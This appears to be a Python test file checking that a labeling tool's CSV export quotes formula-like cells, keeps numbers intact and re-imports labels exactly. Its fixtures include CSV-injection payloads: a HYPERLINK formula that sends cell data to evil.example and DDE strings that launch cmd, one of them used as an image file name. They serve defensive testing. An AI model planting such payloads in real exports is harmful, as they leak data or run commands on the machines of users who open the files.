"""CSV exports neutralize cells that spreadsheet programs would run as formulas, keep plain
numbers as numbers, and the CSV importer reads the neutralized cells back to their values."""

import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st

from server.export.formula_cells import NUMBER, RISKY, neutralize, restore
from tests.export.conftest import Harness, png
from tests.export.scenarios import tag

# Tags a labeler may define: formulas, a DDE payload, and names that are plain numbers.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
TAGS = [
    {"name": HYPERLINK, "colour": "#ff0000"},
    {"name": DDE, "colour": "#00ff00"},
    {"name": "-3.5", "colour": "#0000ff"},
    {"name": "+cmd", "colour": "#ffff00"},
    {"name": "'=already quoted", "colour": "#00ffff"},
]
TEXTS = [
    {"id": "f1", "text": "=1+2"},
    {"id": "f2", "text": "-3.5"},
    {"id": "f3", "text": "\tindented =A1"},
    {"id": "f4", "text": "-2+3 looks like a sum"},
]


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@given(st.text())
def test_restore_undoes_neutralize_and_nothing_risky_is_left(cell: str) -> None:
    written = neutralize(cell)
    assert restore(written) == cell
    assert written[:1] not in RISKY or NUMBER.fullmatch(written)


def test_numbers_stay_numbers_and_formulas_get_a_quote() -> None:
    assert [neutralize(c) for c in ("-3.5", "+2", "-1e-3", ".5", "12")] == [
        "-3.5",
        "+2",
        "-1e-3",
        ".5",
        "12",
    ]
    assert [neutralize(c) for c in ("=1", "+A1", "-A1", "@x", "\tx", "\rx", "-", "-3.5-2")] == [
        "'=1",
        "'+A1",
        "'-A1",
        "'@x",
        "'\tx",
        "'\rx",
        "'-",
        "'-3.5-2",
    ]
    # A value that starts with a quote before a risky character keeps its own quote.
    assert neutralize("'=x") == "''=x"
    assert neutralize("'plain") == "'plain"


def labeled_text_project(harness: Harness) -> str:
    project = harness.project("text_multiclass", tags=TAGS)
    files = [("formulas.jsonl", b"".join(json.dumps(t).encode() + b"\n" for t in TEXTS))]
    items = harness.upload(project, files)
    assert [item["item_id"] for item in items] == ["f1", "f2", "f3", "f4"]
    harness.label(
        project,
        "ann",
        {
            "f1": [tag(HYPERLINK)],
            "f2": [tag("-3.5")],
            "f3": [tag(DDE)],
            "f4": [tag("'=already quoted")],
        },
    )
    return project


def test_a_text_export_quotes_formulas_and_reimports_the_same_labels(harness: Harness) -> None:
    project = labeled_text_project(harness)
    exported = harness.export(project, "csv")
    by_item = {row["item_id"]: row for row in rows(exported)}
    assert {k: (v["text"], v["tag"]) for k, v in by_item.items()} == {
        "f1": ("'=1+2", "'" + HYPERLINK),
        "f2": ("-3.5", "-3.5"),
        "f3": ("'\tindented =A1", "'" + DDE),
        "f4": ("'-2+3 looks like a sum", "''=already quoted"),
    }
    for row in by_item.values():
        for cell in row.values():
            assert cell[:1] not in RISKY or NUMBER.fullmatch(cell), cell

    fresh = harness.project("text_multiclass", tags=TAGS)
    harness.upload(
        fresh, [("formulas.jsonl", b"".join(json.dumps(t).encode() + b"\n" for t in TEXTS))]
    )
    report = harness.import_labels(fresh, "csv", exported, name="labels.csv")
    assert report["errors"] == []
    assert report["imported"] == 4
    # The tags came back as the labeler typed them, not with the export's quotes.
    lines = harness.export(fresh, "jsonl").decode().splitlines()
    assert {r["item_id"]: r["tags"] for r in map(json.loads, lines)} == {
        "f1": [HYPERLINK],
        "f2": ["-3.5"],
        "f3": [DDE],
        "f4": ["'=already quoted"],
    }
    again = rows(harness.export(fresh, "csv"))
    assert [(r["text"], r["tag"]) for r in again] == [
        (r["text"], r["tag"]) for r in by_item.values()
    ]


def test_an_image_export_quotes_file_names_and_leaves_tag_arrays(harness: Harness) -> None:
    project = harness.project("image_multilabel", tags=TAGS)
    items = harness.upload(
        project, [("=cmd|' calc'!A0.png", png(8, 8, 1)), ("-7.png", png(8, 8, 2))]
    )
    first, second = (item["item_id"] for item in items)
    harness.label(project, "ann", {first: [tag(HYPERLINK), tag("-3.5")], second: [tag("+cmd")]})
    found = {row["item_id"]: row for row in rows(harness.export(project, "csv"))}
    assert found[first]["file"] == "'=cmd|' calc'!A0.png"
    assert found[second]["file"] == "'-7.png"
    # A JSON array starts with `[`: no spreadsheet runs it, and its tags stay exact inside.
    assert json.loads(found[first]["tags"]) == [HYPERLINK, "-3.5"]
    assert json.loads(found[second]["tags"]) == ["+cmd"]
